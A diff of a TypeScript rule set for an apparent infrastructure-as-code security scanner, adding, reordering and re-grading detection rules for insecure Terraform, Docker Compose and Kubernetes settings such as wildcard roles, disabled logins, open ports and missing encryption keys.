+      {
+       "path": "permissions[*].actions[*]",
+       "is": "*"
+      }
+     ],
+     "message": "{name} is a role that may do everything."
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "aws_iam_role_policy_attachment",
       "aws_iam_user_policy_attachment",
       "aws_iam_group_policy_attachment",
@@ -31928,19 +32382,6 @@ export const ruleSet: RuleSet = {
      ],
      "message": "{name} has administrator rights.",
      "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_role_definition"
-     ],
-     "where": [
-      {
-       "path": "permissions[*].actions[*]",
-       "is": "*"
-      }
-     ],
-     "message": "{name} is a role that may do everything."
     },
     {
      "format": "terraform",
@@ -32097,6 +32538,20 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "aws_iam_access_key"
+     ],
+     "where": [
+      {
+       "path": "user",
+       "is": "root"
+      }
+     ],
+     "message": "{name} makes an access key for the root user.",
+     "severity": "high"
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "aws_iam_user_policy"
      ],
      "where": [
@@ -32129,20 +32584,6 @@ export const ruleSet: RuleSet = {
        "present": true
       }
      ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_iam_access_key"
-     ],
-     "where": [
-      {
-       "path": "user",
-       "is": "root"
-      }
-     ],
-     "message": "{name} makes an access key for the root user.",
-     "severity": "high"
     }
    ],
    "languages": [
@@ -32497,6 +32938,30 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "google_artifact_registry_repository"
+     ],
+     "where": [
+      {
+       "path": "format",
+       "is": "DOCKER"
+      },
+      {
+       "path": "docker_config[*].immutable_tags",
+       "default": false,
+       "is": false
+      },
+      {
+       "not": {
+        "path": "mode",
+        "matches": "REMOTE|VIRTUAL"
+       }
+      }
+     ],
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "azurerm_container_registry"
      ],
      "where": [
@@ -32506,7 +32971,8 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} gives out images before anybody has looked through them.",
-     "severity": "info"
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -32892,6 +33358,18 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "aws_ec2_instance_metadata_defaults"
+     ],
+     "where": [
+      {
+       "path": "http_tokens",
+       "is": "optional"
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "aws_instance",
       "aws_launch_template",
       "aws_launch_configuration"
@@ -32928,22 +33406,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_instance",
-      "aws_launch_template",
-      "aws_launch_configuration"
-     ],
-     "where": [
-      {
-       "path": "metadata_options[*].http_put_response_hop_limit",
-       "above": 2
-      }
-     ],
-     "message": "{name} lets the answer with the token travel far: containers and proxies get it, too.",
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "aws_sagemaker_notebook_instance"
      ],
      "where": [
@@ -32957,14 +33419,18 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_ec2_instance_metadata_defaults"
+      "aws_instance",
+      "aws_launch_template",
+      "aws_launch_configuration"
      ],
      "where": [
       {
-       "path": "http_tokens",
-       "is": "optional"
+       "path": "metadata_options[*].http_put_response_hop_limit",
+       "above": 2
       }
-     ]
+     ],
+     "message": "{name} lets the answer with the token travel far: containers and proxies get it, too.",
+     "severity": "low"
     }
    ],
    "languages": [
@@ -33378,20 +33844,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_kms_key"
-     ],
-     "where": [
-      {
-       "path": "deletion_window_in_days",
-       "below": 15
-      }
-     ],
-     "message": "{name} is gone a few days after somebody deletes it, and all that it encrypted with it.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "aws_secretsmanager_secret"
      ],
      "where": [
@@ -33429,6 +33881,21 @@ export const ruleSet: RuleSet = {
       }
      ],
      "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_kms_key"
+     ],
+     "where": [
+      {
+       "path": "deletion_window_in_days",
+       "below": 15
+      }
+     ],
+     "message": "{name} is gone a few days after somebody deletes it, and all that it encrypted with it.",
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -33853,7 +34320,7 @@ export const ruleSet: RuleSet = {
    "title": "Function that loses events",
    "category": "security",
    "severity": "info",
-   "confidence": "high",
+   "confidence": "low",
    "cwe": [
     755
    ],
@@ -33952,6 +34419,21 @@ export const ruleSet: RuleSet = {
      "format": "terraform",
      "resource": [
       "aws_lb",
+      "aws_alb",
+      "aws_elb"
+     ],
+     "where": [
+      {
+       "path": "desync_mitigation_mode",
+       "is": "monitor"
+      }
+     ],
+     "severity": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_lb",
       "aws_alb"
      ],
      "where": [
@@ -33971,25 +34453,222 @@ export const ruleSet: RuleSet = {
       "set": "drop_invalid_header_fields",
       "to": "true"
      }
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_lb",
-      "aws_alb",
-      "aws_elb"
-     ],
-     "where": [
-      {
-       "path": "desync_mitigation_mode",
-       "is": "monitor"
-      }
-     ],
-     "severity": "medium"
     }
    ],
    "languages": [
     "terraform"
+   ]
+  },
+  {
+   "id": "login-switched-off",
+   "title": "Login switched off",
+   "category": "security",
+   "severity": "high",
+   "confidence": "high",
+   "cwe": [
+    306,
+    1188
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "container",
+    "KICS-login"
+   ],
+   "message": "`{name}` lets everybody in without a password (`{value}`).",
+   "why": "Whoever reaches the port is the administrator. What reaches it today is known; what does tomorrow is not.",
+   "fix": "Take the switch out, and set a password by a secret.",
+   "references": [
+    "https://docs.docker.com/reference/compose-file/services/"
+   ],
+   "match": [
+    {
+     "format": "compose",
+     "resource": [
+      "variable"
+     ],
+     "where": [
+      {
+       "any": [
+        {
+         "all": [
+          {
+           "path": "name",
+           "is": "POSTGRES_HOST_AUTH_METHOD"
+          },
+          {
+           "path": "value",
+           "is": "trust"
+          }
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "name",
+           "matches": "^(?:MYSQL_|MARIADB_)?ALLOW_EMPTY(?:_ROOT)?_PASSWORD$|^(?:MYSQL|MARIADB)_ALLOW_EMPTY_(?:ROOT_)?PASSWORD$"
+          },
+          {
+           "path": "value",
+           "is": [
+            "yes",
+            "true",
+            1
+           ]
+          }
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "name",
+           "is": [
+            "xpack.security.enabled",
+            "plugins.security.enabled"
+           ]
+          },
+          {
+           "path": "value",
+           "is": false
+          }
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "name",
+           "is": [
+            "DISABLE_SECURITY_PLUGIN",
+            "plugins.security.disabled"
+           ]
+          },
+          {
+           "path": "value",
+           "is": true
+          }
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "name",
+           "is": [
+            "ME_CONFIG_BASICAUTH",
+            "GF_AUTH_DISABLE_LOGIN_FORM"
+           ]
+          },
+          {
+           "path": "value",
+           "is": [
+            false
+           ]
+          }
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "name",
+           "is": "GF_AUTH_ANONYMOUS_ENABLED"
+          },
+          {
+           "path": "value",
+           "is": true
+          }
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "name",
+           "is": "DOCKER_TLS_CERTDIR"
+          },
+          {
+           "path": "value",
+           "empty": true
+          }
+         ]
+        }
+       ]
+      }
+     ],
+     "at": "name"
+    },
+    {
+     "format": "kubernetes",
+     "resource": [
+      "container"
+     ],
+     "each": "env[*]",
+     "where": [
+      {
+       "any": [
+        {
+         "all": [
+          {
+           "path": "name",
+           "is": "POSTGRES_HOST_AUTH_METHOD"
+          },
+          {
+           "path": "value",
+           "is": "trust"
+          }
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "name",
+           "matches": "^(?:MYSQL_|MARIADB_)?ALLOW_EMPTY(?:_ROOT)?_PASSWORD$|^(?:MYSQL|MARIADB)_ALLOW_EMPTY_(?:ROOT_)?PASSWORD$"
+          },
+          {
+           "path": "value",
+           "is": [
+            "yes",
+            "true",
+            1
+           ]
+          }
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "name",
+           "is": [
+            "xpack.security.enabled",
+            "plugins.security.enabled"
+           ]
+          },
+          {
+           "path": "value",
+           "is": false
+          }
+         ]
+        },
+        {
+         "all": [
+          {
+           "path": "name",
+           "is": [
+            "DISABLE_SECURITY_PLUGIN"
+           ]
+          },
+          {
+           "path": "value",
+           "is": true
+          }
+         ]
+        }
+       ]
+      }
+     ],
+     "at": "name"
+    }
+   ],
+   "languages": [
+    "yaml"
    ]
   },
   {
@@ -34024,12 +34703,12 @@ export const ruleSet: RuleSet = {
      "each": "commands[*]",
      "where": [
       {
-       "path": "name",
-       "is": "chmod"
-      },
-      {
        "path": "args[*]",
        "matches": "^[0-7]?[0-7]?[0-7][2367]$|^[ugo]{0,2}[oa][ugoa]{0,2}\\+[rx]{0,2}w[rwx]{0,2}$"
+      },
+      {
+       "path": "name",
+       "is": "chmod"
       }
      ]
     },
@@ -34203,15 +34882,16 @@ export const ruleSet: RuleSet = {
      ],
      "where": [
       {
-       "path": "metadata.block-project-ssh-keys",
-       "default": false,
-       "is": [
-        false,
-        "0"
-       ]
+       "path": "service_account[*].scopes[*]",
+       "matches": "cloud-platform$|^compute-rw$"
+      },
+      {
+       "path": "service_account[*].email",
+       "absent": true
       }
      ],
-     "message": "{name} takes the SSH keys of the whole project."
+     "message": "{name} runs as the default service account with all scopes: who breaks in has the project.",
+     "severity": "high"
     },
     {
      "format": "terraform",
@@ -34272,127 +34952,12 @@ export const ruleSet: RuleSet = {
      ],
      "where": [
       {
-       "path": "shielded_instance_config[*].enable_secure_boot",
-       "is": false
-      }
-     ],
-     "message": "{name} does not check how it was started."
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_compute_instance",
-      "google_compute_instance_template"
-     ],
-     "where": [
-      {
-       "path": "shielded_instance_config[*].enable_vtpm",
-       "is": false
-      }
-     ],
-     "message": "{name} does not check how it was started."
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_compute_instance",
-      "google_compute_instance_template"
-     ],
-     "where": [
-      {
-       "path": "shielded_instance_config[*].enable_integrity_monitoring",
-       "is": false
-      }
-     ],
-     "message": "{name} does not check how it was started."
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_compute_instance",
-      "google_compute_instance_template"
-     ],
-     "where": [
-      {
-       "path": "shielded_instance_config[*]",
-       "absent": true
-      }
-     ],
-     "message": "{name} does not check how it was started: no shielded_instance_config.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_compute_instance",
-      "google_compute_instance_template"
-     ],
-     "where": [
-      {
-       "path": "shielded_instance_config[*]",
-       "where": [
-        {
-         "path": "enable_secure_boot",
-         "absent": true
-        }
-       ]
-      }
-     ],
-     "message": "{name} does not check the signature of what it starts: secure boot is off.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_compute_instance",
-      "google_compute_instance_template"
-     ],
-     "where": [
-      {
-       "path": "service_account[*].scopes[*]",
-       "matches": "cloud-platform$|^compute-rw$"
-      },
-      {
-       "path": "service_account[*].email",
-       "absent": true
-      }
-     ],
-     "message": "{name} runs as the default service account with all scopes: who breaks in has the project.",
-     "severity": "high"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_compute_instance",
-      "google_compute_instance_template"
-     ],
-     "where": [
-      {
        "path": "service_account[*].email",
        "matches": "-compute@developer\\.gserviceaccount\\.com$"
       }
      ],
      "message": "{name} runs as the default service account, which may do far too much.",
      "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "google_compute_instance",
-      "google_compute_instance_template"
-     ],
-     "where": [
-      {
-       "path": "service_account[*].scopes[*]",
-       "matches": "cloud-platform$"
-      },
-      {
-       "path": "service_account[*].email",
-       "present": true
-      }
-     ],
-     "message": "{name} has all scopes; only the roles of its account hold it back.",
-     "severity": "info"
     },
     {
      "format": "terraform",
@@ -34435,17 +35000,62 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "azurerm_linux_virtual_machine",
-      "azurerm_windows_virtual_machine"
+      "google_compute_instance",
+      "google_compute_instance_template"
      ],
      "where": [
       {
-       "path": "allow_extension_operations",
-       "is": true
+       "path": "metadata.block-project-ssh-keys",
+       "default": false,
+       "is": [
+        false,
+        "0"
+       ]
       }
      ],
-     "message": "{name} lets extensions be put on it, which run as root.",
-     "severity": "info"
+     "message": "{name} takes the SSH keys of the whole project."
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_compute_instance",
+      "google_compute_instance_template"
+     ],
+     "where": [
+      {
+       "path": "shielded_instance_config[*].enable_secure_boot",
+       "is": false
+      }
+     ],
+     "message": "{name} does not check how it was started."
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_compute_instance",
+      "google_compute_instance_template"
+     ],
+     "where": [
+      {
+       "path": "shielded_instance_config[*].enable_vtpm",
+       "is": false
+      }
+     ],
+     "message": "{name} does not check how it was started."
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_compute_instance",
+      "google_compute_instance_template"
+     ],
+     "where": [
+      {
+       "path": "shielded_instance_config[*].enable_integrity_monitoring",
+       "is": false
+      }
+     ],
+     "message": "{name} does not check how it was started."
     },
     {
      "format": "terraform",
@@ -34479,20 +35089,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_instance"
-     ],
-     "where": [
-      {
-       "path": "source_dest_check",
-       "is": false
-      }
-     ],
-     "message": "{name} may pass on packets that are not its own.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "google_service_account_key"
      ],
      "where": [
@@ -34502,6 +35098,94 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} makes a key for a service account, which lives for ten years and lies in the state."
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_compute_instance",
+      "google_compute_instance_template"
+     ],
+     "where": [
+      {
+       "path": "shielded_instance_config[*]",
+       "absent": true
+      }
+     ],
+     "message": "{name} does not check how it was started: no shielded_instance_config.",
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_compute_instance",
+      "google_compute_instance_template"
+     ],
+     "where": [
+      {
+       "path": "shielded_instance_config[*]",
+       "where": [
+        {
+         "path": "enable_secure_boot",
+         "absent": true
+        }
+       ]
+      }
+     ],
+     "message": "{name} does not check the signature of what it starts: secure boot is off.",
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_compute_instance",
+      "google_compute_instance_template"
+     ],
+     "where": [
+      {
+       "path": "service_account[*].scopes[*]",
+       "matches": "cloud-platform$"
+      },
+      {
+       "path": "service_account[*].email",
+       "present": true
+      }
+     ],
+     "message": "{name} has all scopes; only the roles of its account hold it back.",
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_linux_virtual_machine",
+      "azurerm_windows_virtual_machine"
+     ],
+     "where": [
+      {
+       "path": "allow_extension_operations",
+       "is": true
+      }
+     ],
+     "message": "{name} lets extensions be put on it, which run as root.",
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_instance"
+     ],
+     "where": [
+      {
+       "path": "source_dest_check",
+       "is": false
+      }
+     ],
+     "message": "{name} may pass on packets that are not its own.",
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -34709,20 +35393,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "google_container_node_pool"
-     ],
-     "where": [
-      {
-       "path": "management.auto_repair",
-       "is": false
-      }
-     ],
-     "message": "{name} does not mend broken nodes by itself.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "azurerm_windows_virtual_machine"
      ],
      "where": [
@@ -34734,6 +35404,21 @@ export const ruleSet: RuleSet = {
        "is": false
       }
      ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "google_container_node_pool"
+     ],
+     "where": [
+      {
+       "path": "management.auto_repair",
+       "is": false
+      }
+     ],
+     "message": "{name} does not mend broken nodes by itself.",
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -34863,15 +35548,11 @@ export const ruleSet: RuleSet = {
      "where": [
       {
        "path": "source",
-       "matches": "^(?:git::|git@|github\\.com/|bitbucket\\.org/|https?://.*\\.git|hg::)"
-      },
-      {
-       "not": {
-        "path": "source",
-        "matches": "[?&]ref="
-       }
+       "matches": "^(?:git::)?http://"
       }
-     ]
+     ],
+     "message": "{name} is fetched without encryption: who sits on the way chooses what runs.",
+     "severity": "high"
     },
     {
      "format": "terraform",
@@ -34894,6 +35575,24 @@ export const ruleSet: RuleSet = {
      "where": [
       {
        "path": "source",
+       "matches": "^(?:git::|git@|github\\.com/|bitbucket\\.org/|https?://.*\\.git|hg::)"
+      },
+      {
+       "not": {
+        "path": "source",
+        "matches": "[?&]ref="
+       }
+      }
+     ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "module"
+     ],
+     "where": [
+      {
+       "path": "source",
        "matches": "^(?:[\\w-]+\\.[\\w.-]+/)?[\\w-]+/[\\w-]+/[\\w-]+(?://.*)?$"
       },
       {
@@ -34907,20 +35606,6 @@ export const ruleSet: RuleSet = {
        "absent": true
       }
      ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "module"
-     ],
-     "where": [
-      {
-       "path": "source",
-       "matches": "^(?:git::)?http://"
-      }
-     ],
-     "message": "{name} is fetched without encryption: who sits on the way chooses what runs.",
-     "severity": "high"
     }
    ],
    "languages": [
@@ -35101,38 +35786,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "azurerm_storage_account"
-     ],
-     "where": [
-      {
-       "path": "network_rules[*]",
-       "absent": true
-      },
-      {
-       "path": "public_network_access_enabled",
-       "default": true,
-       "is": true
-      },
-      {
-       "none": {
-        "types": [
-         "azurerm_storage_account_network_rules"
-        ],
-        "link": [
-         {
-          "other": "storage_account_id",
-          "by": "reference"
-         }
-        ]
-       }
-      }
-     ],
-     "message": "{name} has no network rules: each address may connect.",
-     "severity": "low"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "azurerm_key_vault",
       "azurerm_cognitive_account"
      ],
@@ -35176,6 +35829,38 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
+      "azurerm_storage_account"
+     ],
+     "where": [
+      {
+       "path": "network_rules[*]",
+       "absent": true
+      },
+      {
+       "path": "public_network_access_enabled",
+       "default": true,
+       "is": true
+      },
+      {
+       "none": {
+        "types": [
+         "azurerm_storage_account_network_rules"
+        ],
+        "link": [
+         {
+          "other": "storage_account_id",
+          "by": "reference"
+         }
+        ]
+       }
+      }
+     ],
+     "message": "{name} has no network rules: each address may connect.",
+     "severity": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
       "azurerm_servicebus_namespace",
       "azurerm_eventhub_namespace"
      ],
@@ -35212,7 +35897,8 @@ export const ruleSet: RuleSet = {
       }
      ],
      "message": "{name} shuts out the services of Azure that it may need, such as backup.",
-     "severity": "info"
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -35224,7 +35910,7 @@ export const ruleSet: RuleSet = {
    "title": "Machine without detailed monitoring",
    "category": "security",
    "severity": "info",
-   "confidence": "high",
+   "confidence": "low",
    "cwe": [
     778
    ],
@@ -35483,43 +36169,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_ebs_volume",
-      "aws_efs_file_system",
-      "aws_docdb_cluster",
-      "aws_elasticache_replication_group",
-      "aws_redshiftserverless_namespace",
-      "aws_sagemaker_domain"
-     ],
-     "where": [
-      {
-       "path": "kms_key_id",
-       "absent": true
-      }
-     ],
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_neptune_cluster",
-      "aws_memorydb_cluster",
-      "aws_mwaa_environment"
-     ],
-     "where": [
-      {
-       "path": [
-        "kms_key_arn",
-        "kms_key",
-        "kms_key_id"
-       ],
-       "absent": true
-      }
-     ],
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "aws_backup_vault",
       "aws_dms_replication_instance"
      ],
@@ -35571,49 +36220,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_s3_bucket_server_side_encryption_configuration"
-     ],
-     "where": [
-      {
-       "path": "rule[*].apply_server_side_encryption_by_default[*].sse_algorithm",
-       "is": "AES256"
-      }
-     ],
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_lambda_function"
-     ],
-     "where": [
-      {
-       "path": "environment[*].variables",
-       "present": true
-      },
-      {
-       "path": "kms_key_arn",
-       "absent": true
-      }
-     ],
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_codebuild_project"
-     ],
-     "where": [
-      {
-       "path": "encryption_key",
-       "absent": true
-      }
-     ],
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "aws_db_instance",
       "aws_rds_cluster_instance"
      ],
@@ -35627,23 +36233,6 @@ export const ruleSet: RuleSet = {
        "absent": true
       }
      ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_ssm_parameter"
-     ],
-     "where": [
-      {
-       "path": "type",
-       "is": "SecureString"
-      },
-      {
-       "path": "key_id",
-       "absent": true
-      }
-     ],
-     "severity": "info"
     },
     {
      "format": "terraform",
@@ -35725,32 +36314,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "azurerm_storage_account"
-     ],
-     "where": [
-      {
-       "path": "customer_managed_key[*]",
-       "absent": true
-      },
-      {
-       "none": {
-        "types": [
-         "azurerm_storage_account_customer_managed_key"
-        ],
-        "link": [
-         {
-          "other": "storage_account_id",
-          "by": "reference"
-         }
-        ]
-       }
-      }
-     ],
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "azurerm_cosmosdb_account"
      ],
      "where": [
@@ -35771,34 +36334,6 @@ export const ruleSet: RuleSet = {
        "absent": true
       }
      ]
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_data_factory"
-     ],
-     "where": [
-      {
-       "path": "customer_managed_key_id",
-       "absent": true
-      }
-     ],
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "azurerm_synapse_workspace",
-      "azurerm_servicebus_namespace",
-      "azurerm_cognitive_account"
-     ],
-     "where": [
-      {
-       "path": "customer_managed_key[*]",
-       "absent": true
-      }
-     ],
-     "severity": "info"
     },
     {
      "format": "terraform",
@@ -35963,6 +36498,181 @@ export const ruleSet: RuleSet = {
        "absent": true
       }
      ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_ebs_volume",
+      "aws_efs_file_system",
+      "aws_docdb_cluster",
+      "aws_elasticache_replication_group",
+      "aws_redshiftserverless_namespace",
+      "aws_sagemaker_domain"
+     ],
+     "where": [
+      {
+       "path": "kms_key_id",
+       "absent": true
+      }
+     ],
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_neptune_cluster",
+      "aws_memorydb_cluster",
+      "aws_mwaa_environment"
+     ],
+     "where": [
+      {
+       "path": [
+        "kms_key_arn",
+        "kms_key",
+        "kms_key_id"
+       ],
+       "absent": true
+      }
+     ],
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_s3_bucket_server_side_encryption_configuration"
+     ],
+     "where": [
+      {
+       "path": "rule[*].apply_server_side_encryption_by_default[*].sse_algorithm",
+       "is": "AES256"
+      }
+     ],
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_lambda_function"
+     ],
+     "where": [
+      {
+       "path": "environment[*].variables",
+       "present": true
+      },
+      {
+       "path": "kms_key_arn",
+       "absent": true
+      }
+     ],
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_codebuild_project"
+     ],
+     "where": [
+      {
+       "path": "encryption_key",
+       "absent": true
+      }
+     ],
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_ssm_parameter"
+     ],
+     "where": [
+      {
+       "path": "type",
+       "is": "SecureString"
+      },
+      {
+       "path": "key_id",
+       "absent": true
+      }
+     ],
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_storage_account"
+     ],
+     "where": [
+      {
+       "path": "customer_managed_key[*]",
+       "absent": true
+      },
+      {
+       "none": {
+        "types": [
+         "azurerm_storage_account_customer_managed_key"
+        ],
+        "link": [
+         {
+          "other": "storage_account_id",
+          "by": "reference"
+         }
+        ]
+       }
+      }
+     ],
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_data_factory"
+     ],
+     "where": [
+      {
+       "path": "customer_managed_key_id",
+       "absent": true
+      }
+     ],
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_synapse_workspace",
+      "azurerm_servicebus_namespace",
+      "azurerm_cognitive_account"
+     ],
+     "where": [
+      {
+       "path": "customer_managed_key[*]",
+       "absent": true
+      }
+     ],
+     "severity": "info",
+     "confidence": "low"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "azurerm_mysql_flexible_server",
+      "azurerm_postgresql_flexible_server"
+     ],
+     "where": [
+      {
+       "path": "customer_managed_key[*]",
+       "absent": true
+      }
+     ],
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -37106,37 +37816,6 @@ export const ruleSet: RuleSet = {
     {
      "format": "terraform",
      "resource": [
-      "aws_elb"
-     ],
-     "where": [
-      {
-       "path": "listener[*].lb_protocol",
-       "is": [
-        "http",
-        "tcp"
-       ]
-      }
-     ],
-     "severity": "medium"
-    },
-    {
-     "format": "terraform",
-     "resource": [
-      "aws_lb_target_group",
-      "aws_alb_target_group"
-     ],
-     "where": [
-      {
-       "path": "protocol",
-       "is": "HTTP"
-      }
-     ],
-     "message": "{name} is reached over plain HTTP from its load balancer.",
-     "severity": "info"
-    },
-    {
-     "format": "terraform",
-     "resource": [
       "aws_cloudfront_distribution"
      ],
      "where": [
@@ -37157,6 +37836,22 @@ export const ruleSet: RuleSet = {
        "is": "allow-all"
       }
      ]
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_elb"
+     ],
+     "where": [
+      {
+       "path": "listener[*].lb_protocol",
+       "is": [
+        "http",
+        "tcp"
+       ]
+      }
+     ],
+     "severity": "medium"
     },
     {
      "format": "terraform",
@@ -37196,6 +37891,22 @@ export const ruleSet: RuleSet = {
      "message": "{name} serves its users over plain HTTP.",
      "severity": "low",
      "confidence": "medium"
+    },
+    {
+     "format": "terraform",
+     "resource": [
+      "aws_lb_target_group",
+      "aws_alb_target_group"
+     ],
+     "where": [
+      {
+       "path": "protocol",
+       "is": "HTTP"
+      }
+     ],
+     "message": "{name} is reached over plain HTTP from its load balancer.",
+     "severity": "info",
+     "confidence": "low"
     }
    ],
    "languages": [
@@ -37260,6 +37971,59 @@ export const ruleSet: RuleSet = {
      "severity": "info",
      "confidence": "low",
      "message": "The namespace `{name}` says nothing of what pods it admits."
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "port-on-all-addresses",
+   "title": "Port open on every address",
+   "category": "security",
+   "severity": "info",
+   "confidence": "low",
+   "cwe": [
+    668,
+    1327
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "container",
+    "network",
+    "CIS-Docker-5.13",
+    "KICS-451d79dc"
+   ],
+   "message": "The port {value} of `{name}` is open on every address of the host.",
+   "why": "Without an address a published port listens on all networks that the host has, and past its firewall.",
+   "fix": "Name the address: `127.0.0.1:8080:8080`.",
+   "references": [
+    "https://docs.docker.com/reference/compose-file/services/"
+   ],
+   "match": [
+    {
+     "format": "compose",
+     "resource": [
+      "port"
+     ],
+     "where": [
+      {
+       "path": "published",
+       "present": true
+      },
+      {
+       "path": "hostIp",
+       "default": "0.0.0.0",
+       "is": [
+        "0.0.0.0",
+        "[::]",
+        "::"
+       ]
+      }
+     ],
+     "at": "published"
     }
    ],
    "languages": [
@@ -37525,6 +38289,67 @@ export const ruleSet: RuleSet = {
        "below": 1024
       }
      ]
+    }
+   ],
+   "languages": [
+    "yaml"
+   ]
+  },
+  {
+   "id": "process-limit-missing",
+   "title": "No limit of processes",
+   "category": "security",
+   "severity": "info",
+   "confidence": "low",
+   "cwe": [
+    770
+   ],
+   "owasp": [
+    "A05:2021"
+   ],
+   "tags": [
+    "container",
+    "resources",
+    "CIS-Docker-5.29",
+    "KICS-221e0658"
+   ],
+   "message": "`{name}` may start any number of processes.",
+   "why": "A program that forks without end takes the whole host with it.",
+   "fix": "Set `pids_limit` (or `deploy.resources.limits.pids`).",
+   "references": [
+    "https://docs.docker.com/reference/compose-file/services/"
+   ],
+   "match": [
+    {
+     "format": "compose",
+     "resource": [
+      "service"
+     ],
+     "where": [
+      {
+       "path": [
+        "pids_limit",
+        "deploy.resources.limits.pids"
